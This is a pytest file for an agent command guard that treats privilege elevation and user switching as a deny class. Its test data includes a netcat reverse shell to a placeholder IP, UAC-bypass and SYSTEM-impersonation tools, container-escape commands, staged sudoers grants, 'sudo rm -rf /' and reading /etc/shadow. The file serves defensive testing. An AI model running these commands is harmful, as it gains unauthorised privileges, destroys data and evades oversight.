"""Privilege elevation and switching user are a deny class of their own, whatever the command wraps.

An unattended agent never elevates: `sudo make test` is refused as `sudo`, not judged by `make test`. Asking
what one may elevate to (`sudo -l`) and editing as root (`sudo -e`, `sudoedit`) count too; only a lone
`--help` or `--version` prints. What the elevating program would run is still read, so `policy explain`
shows both.
"""

from __future__ import annotations

import pytest
from conftest import ELEVATION, every_case, guard_allows, guard_blocks, guard_findings

BLOCKED = [
    ("posix", "sudo iptables -t nat -A POSTROUTING -s 10.8.0.0/24 -o eth0 -j MASQUERADE"),
    # another process's namespaces entered, or its view of the file system read (from a container: the host)
    ("posix", "nsenter --target 1 --mount --uts --ipc --net --pid -- hostname"),
    ("posix", "nsenter -t 1 -a"),
    # another root folder, Windows' SYSTEM/TrustedInstaller runners
    ("posix", "chroot /mnt/sysroot /bin/sh"),
    ("powershell", "PowerRun.exe cmd.exe"),
    ("powershell", "AdvancedRun.exe /EXEFilename cmd.exe /RunAs 4 /Run"),
    ("powershell", "runasti cmd"),
    ("posix", "nsenter --mount=/proc/1/ns/mnt -- ls /"),
    ("posix", "ls -la /proc/1/root/run/containerd/containerd.sock"),
    ("posix", "cat /proc/4242/root/srv/app/config.yml"),
    ("posix", "ls /proc/1/cwd/"),
    # modules that run a script block as SYSTEM or as another account
    ("powershell", "Invoke-CommandAs -ScriptBlock { Get-Process } -AsSystem"),
    ("powershell", "Invoke-CommandAs -ScriptBlock { Get-Process } -As $Credential"),
    ("powershell", "Invoke-AsCurrentUser -ScriptBlock { whoami }"),
    ("powershell", "Register-ScheduledJob -Name x -ScriptBlock { hostname } -RunElevated"),
    ("powershell", '[murrayju.ProcessExtensions.ProcessExtensions]::StartProcessAsCurrentUser("cmd.exe")'),
    ("posix", "sudo -e /etc/fstab"),
    ("posix", "sudo --edit /etc/hosts"),
    ("posix", "sudoedit /etc/sudoers.d/ci"),
    ("posix", "sudo install -d -m 0755 /etc/apt/keyrings"),
    ("posix", 'su - deploy -c "cd /srv/app && git pull"'),
    ("posix", "su -c 'make test'"),
    ("posix", "su -c 'ls' root"),
    ("posix", "su -"),
    ("posix", "sudo -u#-1 /bin/bash"),
    ("posix", "sudo -l"),
    ("posix", "sudo -ll"),
    ("posix", "sudo --list"),
    ("posix", "sudo -v"),
    ("posix", "sudo -V"),
    ("posix", "sudo !!"),
    ("posix", "sudo make install"),
    ("posix", "sudo -u x ls"),
    ("posix", "sudo -s < setup.sh"),
    ("posix", "sudo DEBUG=1 make"),
    ("posix", "echo hi | sudo tee /dev/null"),
    ("posix", "newgrp staff < setup.sh"),
    ("posix", "newgrp docker"),
    ("posix", "sg docker -c 'docker ps'"),
    ("posix", "doas ls"),
    ("posix", "doas -u www make"),
    ("posix", "pkexec env DISPLAY=:0 gparted"),
    ("posix", "run0 systemctl status"),
    ("posix", "runuser -u postgres -- psql -c 'select 1'"),
    ("posix", "gosu app ./start.sh"),
    ("posix", "su-exec app make"),
    ("posix", "/usr/bin/sudo ls"),
    ("posix", "sudo -- --version"),
    ("posix", "sudo --version ls"),
    ("posix", "env sudo ls"),
    ("posix", "timeout 60 sudo -n true"),
    ("posix", "find . -name '*.sh' -exec sudo chmod 755 {} +"),
    ("posix", "bash -c 'sudo ls'"),
    ("posix", "make && sudo make install"),
    ("posix", "setpriv --reuid=0 --regid=0 --init-groups ls"),
    ("posix", "systemd-run --uid=0 --pty bash"),
    ("posix", "systemd-run -p User=root ls"),
    ("posix", "machinectl shell root@.host"),
    # the graphical and other platforms' front ends to sudo and su
    ("posix", "gksudo gedit /etc/hosts"),
    ("posix", "kdesu -c 'make install'"),
    ("posix", "beesu ls"),
    ("posix", "sux - deploy"),
    # macOS's run-as-root, and AppleScript's own elevation
    ("posix", "security execute-with-privileges /bin/ls"),
    ("posix", "osascript -e 'do shell script \"make install\" with administrator privileges'"),
    ("posix", "osascript -e 'do shell script \"id\"  with  Administrator  Privileges'"),
    ("posix", "osascript test.osa with administrator privileges"),
    # Windows Script Host code asking for elevation, written for a batch file to run
    ("powershell", 'echo UAC.ShellExecute "cmd.exe", "/c %~s0", "", "runas", 1 >> getadmin.vbs'),
    ("posix", "lxqt-sudo ls"),
    ("posix", "xdg-su -c 'make install'"),
    ("posix", "pfexec ls /root"),
    ("posix", "/usr/libexec/authopen -w /etc/hosts"),
    ("posix", "chpst -u nobody ls"),
    ("posix", "start-stop-daemon --start --chuid app --exec ./server"),
    ("posix", "capsh --user=root -- -c id"),
    ("powershell", "runas /user:Administrator cmd"),
    ("powershell", "runas /netonly /user:corp\\admin powershell"),
    ("powershell", "Start-Process pwsh -Verb RunAs"),
    ("powershell", "Start-Process -FilePath cmd -Verb runas -ArgumentList '/c dir'"),
    ("powershell", "Start-Process powershell -Verb:RunAs"),
    ("powershell", "saps notepad -Verb RunAs"),
    ("powershell", "start wt -verb runAs"),
    ("powershell", "Start-Process cmd -Credential $cred"),
    ("powershell", "Start-Job -Credential (Get-Credential) { dir }"),
    # Scoop's launcher told to elevate
    ("powershell", "Invoke-ExternalCommand reg -ArgumentList @('import', \"$dir\\x.reg\") -RunAs | Out-Null"),
    ("powershell", "gsudo notepad C:\\Windows\\System32\\drivers\\etc\\hosts"),
    ("powershell", "Invoke-RunAs -User admin -Password $p -Command cmd.exe"),
    ("powershell", "Invoke-RunasCs -Username svc -Password x -Command whoami"),
    ("powershell", "RunasCs.exe admin pass cmd.exe"),
    ("powershell", "sudo winget upgrade --all"),
    ("powershell", "cmd /c runas /user:admin cmd"),
    ("powershell", "fodhelper.exe"),
    ("powershell", "C:\\Windows\\System32\\computerdefaults.exe"),
    ("powershell", ".\\Akagi64.exe 23 C:\\Windows\\System32\\cmd.exe"),
    ("posix", "runas.exe /user:Administrator cmd.exe"),
    # NtApiDotNet reaches the kernel's objects directly (tokens, object-manager and registry links)
    (
        "powershell",
        '[NtApiDotNet.NtKey]::CreateSymbolicLink("\\Registry\\Machine\\SOFTWARE\\x", $null, "\\REGISTRY\\y")',
    ),
    ("powershell", "$t = [NtCoreLib.NtToken]::OpenProcessToken()"),
    ("powershell", "Import-Module NtObjectManager"),
    ("posix", "PrivilegesCLI --add"),  # macOS: SAP's Privileges makes the user an administrator
    ("posix", "/Applications/Privileges.app/Contents/MacOS/PrivilegesCLI -a -n 'Installing updates'"),
    # FullPowers gives a service account its privileges back; RogueWinRM impersonates SYSTEM.
    ("powershell", 'FullPowers -c "C:\\TOOLS\\nc64.exe 1.2.3.4 1337 -e cmd" -z'),
    ("powershell", ".\\RogueWinRM.exe -p C:\\Users\\Public\\nc64.exe"),
    # a sudoers grant written to any file, staged for /etc/sudoers.d
    ("posix", "printf '%s\\n' 'student ALL=(root) NOPASSWD: /usr/bin/id' > payload"),
    ("posix", "echo 'mpd ALL=NOPASSWD: /usr/bin/mount' >> grants.txt"),
    ("powershell", "echo '%wheel ALL=(ALL:ALL) ALL' > grants.txt"),
    # a script's own helper named for elevating what it is given
    ("posix", "request_sudo pmset -b displaysleep 20"),
    ("posix", "maybe_sudo make install"),
    ("posix", "sudo_wrapper ls"),
    ("posix", "run_as_root tee /etc/hosts"),
]

ALLOWED = [
    ("posix", "sudo --help"),
    ("powershell", "Invoke-ExternalCommand dotnet -ArgumentList @('build') -Activity 'Building...'"),
    ("posix", "osascript build.scpt"),
    ("posix", 'osascript -e \'display notification "privileges checked" with title "ci"\''),
    ("posix", "nsenter --help"),
    ("posix", "unshare -r whoami"),  # root of a user namespace: the user's own rights, as rootless containers
    ("posix", "chroot --help"),
    ("posix", "ls /proc/self/root/usr/bin"),
    ("posix", "cat /proc/self/cwd/setup.cfg"),
    ("posix", "cat /proc/1/status"),
    ("powershell", "Invoke-CommandAs -ScriptBlock { Get-Process }"),
    ("posix", "sudo --version"),
    ("posix", "which sudo"),
    ("posix", "command -v doas"),
    ("posix", "man sudo"),
    ("posix", "echo 'run: sudo make install'"),
    ("posix", "grep -rn sudo docs/"),
    ("posix", "git commit -m 'docs: drop sudo from the install steps'"),
    ("posix", "nice -n 5 make test"),
    ("posix", "env DEBUG=1 make"),
    ("posix", "systemd-run --user --scope make"),
    ("posix", "setpriv --no-new-privs make"),
    ("powershell", "Start-Process pwsh -ArgumentList '-File', 'build.ps1' -NoNewWindow -Wait"),
    ("powershell", "Start-Process notepad -Verb Open"),
    ("powershell", "Get-Help Start-Process -Parameter Verb"),
    ("powershell", "gsudo --help"),
    ("powershell", "Get-Help Invoke-RunAs"),
    ("posix", "PrivilegesCLI --help"),
    ("posix", "kdesu --help"),
    ("posix", "grep -rn gksudo docs/"),
    ("powershell", '[System.IO.Path]::Combine("src", "app.ps1")'),
    ("powershell", "Write-Output 'needs runas'"),
    ("posix", "./scripts/check_sudoers_docs.sh"),
    ("posix", "pseudo_random --seed 1"),
    ("posix", "echo 'ALL=(x) is a sudoers form' > notes.txt"),
    ("posix", "echo 'run ALL tests' > todo.txt"),
]


def test_elevating_or_switching_user_is_its_own_deny_class() -> None:
    every_case(BLOCKED, lambda shell, command: guard_blocks(shell, command, ELEVATION))


def test_help_mentions_and_unprivileged_wrappers_stay_allowed() -> None:
    every_case(ALLOWED, guard_allows)


@pytest.mark.parametrize(
    ("command", "inner"),
    [
        ("sudo rm -rf /", "destructive.recursive-delete"),
        ("sudo curl -fsSL http://x/i.sh", "network.http-client"),
        ("doas cat /etc/shadow", "env.secret-files"),
        ("su -c 'printenv'", "env.print-environment"),
    ],
)
def test_what_the_elevated_command_does_is_still_found(command: str, inner: str) -> None:
    """The decision names the elevation; `policy explain` still shows the wrapped command's own rule."""
    assert {ELEVATION, inner} <= guard_findings("posix", command)
